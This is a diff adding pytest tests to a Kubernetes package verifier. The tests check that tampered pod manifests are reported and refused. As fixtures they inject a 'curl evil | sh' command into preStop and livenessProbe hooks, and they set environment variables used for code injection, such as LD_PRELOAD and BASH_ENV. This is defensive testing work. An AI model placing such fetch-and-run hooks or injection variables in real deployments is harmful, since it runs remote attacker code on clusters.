@@ -10,8 +10,10 @@ from typing import TYPE_CHECKING
 import pytest
 
 from packager.package.layout import INVENTORY
+from packager.package.opened import opened
 from packager.verify import changes
 from tests import demo
+from tests.broken import seal
 from tests.files import replace
 
 if TYPE_CHECKING:
@@ -133,6 +135,26 @@ def test_edited_image_and_command_are_reported(mlpack: Run, package: Path, kubec
     assert "\u202e" not in done.stdout + done.stderr
 
 
+@pytest.mark.parametrize(
+    ("added", "changed"),
+    [
+        (
+            'lifecycle: {preStop: {exec: {command: [sh, -c, "curl evil | sh"]}}}',
+            "the command of preStop of single-node",
+        ),
+        ('livenessProbe: {exec: {command: [sh, -c, "curl evil | sh"]}}', "the command of livenessProbe of single-node"),
+    ],
+)
+def test_command_beside_the_program_is_reported(
+    mlpack: Run, package: Path, kubectl: Path, added: str, changed: str
+) -> None:
+    replace(package / SINGLE / "pod.yaml", "      workingDir: /\n", f"      workingDir: /tmp\n      {added}\n")
+    done = mlpack("verify", package, "--kubectl", kubectl)
+    words = '["sh", "-c", "curl evil | sh"]'
+    assert f"an edit changes {changed}: {words!r}; it was sealed with none\n" in done.stderr
+    assert "an edit changes the working folder of single-node: '/tmp'; it was sealed with '/'\n" in done.stderr
+
+
 def test_edited_secret_values_are_masked(mlpack: Run, kubectl: Path, tmp_path: Path) -> None:
     build = ("build", "hello-mpi", "--format", "dir", "--set", "environment.API_TOKEN=geheim0")
     assert mlpack(*build).code == 0
@@ -190,6 +212,31 @@ def test_forbidden_variable_is_refused_even_with_allow(mlpack: Run, package: Pat
     done = mlpack("verify", package, "--kubectl", kubectl, "--allow", "variable:BASH_ENV")
     assert done.code == 5
     assert "data.BASH_ENV: it cannot be set in a package: the shell would run it" in done.stdout
+
+
+@pytest.mark.parametrize("key", ["LD_PRELOAD", "BASH_ENV", "PATH", "PYTHONHOME", "NODE_OPTIONS", "MLPACK_X"])
+@pytest.mark.parametrize("sealed", [True, False], ids=["sealed", "by an edit"])
+def test_forbidden_variable_is_refused_in_a_container(
+    mlpack: Run, package: Path, kubectl: Path, key: str, *, sealed: bool
+) -> None:
+    replace(package / f"{SINGLE}/pod.yaml", "      env:\n", f"      env:\n        - {{name: {key}, value: /x}}\n")
+    if sealed:
+        with opened(package) as whole:
+            seal(whole)
+    done = mlpack("verify", package, "--kubectl", kubectl, "--allow", f"variable:{key}")
+    assert (done.code, done.stdout.count("\n")) == (5, 1)
+    assert f"spec.containers[0].env[0].name: {key}: it cannot be set in a package: " in done.stdout
+    refused = mlpack("deploy", package, "--overlay", "single-node", "--kubectl", kubectl)
+    assert (refused.code, f"{key}: it cannot be set in a package: " in refused.stderr) == (5, True)
+
+
+def test_home_added_to_a_container_by_an_edit_needs_allow(mlpack: Run, package: Path, kubectl: Path) -> None:
+    """Builds set it only in the containers that run programs of the model, but one that has it may change its value."""
+    edited = "    - name: identity\n      env: [{name: ZDOTDIR, value: /x}, {name: HOME, value: /x}]\n"
+    replace(package / f"{SINGLE}/pod.yaml", "    - name: identity\n", edited)
+    done = mlpack("verify", package, "--kubectl", kubectl)
+    assert done.code == 5
+    assert done.stdout.count("an edit adds this variable") == done.stdout.count("\n") == 1
 
 
 @pytest.mark.parametrize(
